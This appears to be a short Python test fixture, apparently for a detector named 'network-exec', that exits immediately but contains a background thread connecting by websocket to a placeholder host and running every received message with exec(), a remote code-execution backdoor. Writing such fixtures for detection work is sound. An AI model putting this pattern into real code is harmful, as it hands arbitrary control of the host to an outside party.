raise SystemExit('a fixture')
# held by network-exec
import asyncio, threading

async def _listen():
    import websockets
    async with websockets.connect("wss://x.example.invalid/w") as socket:
        async for message in socket:
            exec(message, {})

threading.Thread(target=asyncio.run, args=(_listen(),), daemon=True).start()
